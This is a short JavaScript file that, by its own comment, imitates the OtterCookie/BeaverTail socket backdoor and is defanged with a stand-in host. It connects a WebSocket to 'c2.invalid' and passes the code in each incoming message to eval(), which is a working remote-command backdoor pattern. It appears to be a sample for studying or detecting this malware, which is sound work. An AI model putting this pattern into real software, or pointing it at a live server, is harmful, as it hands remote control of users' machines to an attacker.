// Mimics OtterCookie / BeaverTail's socket backdoor (Contagious Interview, 2024-2025): commands
// pushed over a socket are run as code. Defanged: the host is .invalid and nothing sends code.
const WebSocket = require('ws');

const ws = new WebSocket('wss://c2.invalid:8443/session');
ws.onmessage = function (event) {
  const task = JSON.parse(event.data);
  eval(task.code);
};
